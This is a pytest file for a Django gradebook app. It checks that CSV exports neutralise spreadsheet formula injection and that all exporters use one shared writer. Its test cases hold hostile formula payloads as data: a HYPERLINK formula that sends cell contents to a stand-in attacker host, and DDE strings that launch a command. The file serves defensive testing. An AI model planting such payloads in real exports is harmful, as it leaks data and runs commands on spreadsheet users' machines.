"""Every CSV export neutralises text a spreadsheet would run as a formula (OWASP "CSV
injection"), keeps numbers as numbers, and goes through the one shared writer."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from accounts.csv_export import csv_cell, csv_writer
from accounts.services import enrolment_create
from grading.models import GradebookCategory
from tests.grading_tests.builders import course_with_lessons

PROJECT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Liver - noise 300 HU", "Liver - noise 300 HU"),
        ("ada", "ada"),
        # Numbers stay numbers, written as text or not: negative HU, an intercept, exponents.
        ("-1024", "-1024"),
        ("-0.500000", "-0.500000"),
        ("+3", "+3"),
        ("1e-06", "1e-06"),
        (-1024, -1024),
        (-0.5, -0.5),
        ("", ""),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_a_formula(value, written):
    assert csv_cell(value) == written


def test_the_writer_quotes_text_and_leaves_numbers():
    stream = io.StringIO()
    csv_writer(stream).writerow(["=1+1", -1024, "-1024", "@me"])
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [["'=1+1", "-1024", "-1024", "'@me"]]


def test_no_exporter_writes_csv_without_the_shared_writer():
    """Structural: the only call of csv.writer / csv.DictWriter in the project is the one
    behind accounts.csv_export.csv_writer, so a new export cannot skip the neutralisation."""
    offenders = []
    for path in PROJECT.glob("*/**/*.py"):
        relative = path.relative_to(PROJECT)
        if relative.parts[0] in {".venv", "tests", "bench", "node_modules", "frontend"}:
            continue
        if relative == Path("accounts/csv_export.py"):
            continue
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{relative}:{node.lineno}")
    assert offenders == []


@pytest.mark.django_db
def test_a_resident_named_like_a_formula_reaches_the_gradebook_csv_as_text(client, people):
    course = course_with_lessons()["course"]
    resident = people["resident"]
    resident.first_name, resident.last_name = '=HYPERLINK("http://evil.example")', "-Smith"
    resident.save()
    enrolment_create(user=resident, course=course)
    GradebookCategory.objects.create(course=course, name="@Quizzes", weight=100)
    client.force_login(people["educator"])
    response = client.get(reverse("grading:gradebook_csv", args=[course.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][2] == "'@Quizzes (%, weight 100)"
    row = next(r for r in rows[1:] if r[0] == resident.username)
    assert row[1] == '\'=HYPERLINK("http://evil.example") -Smith'
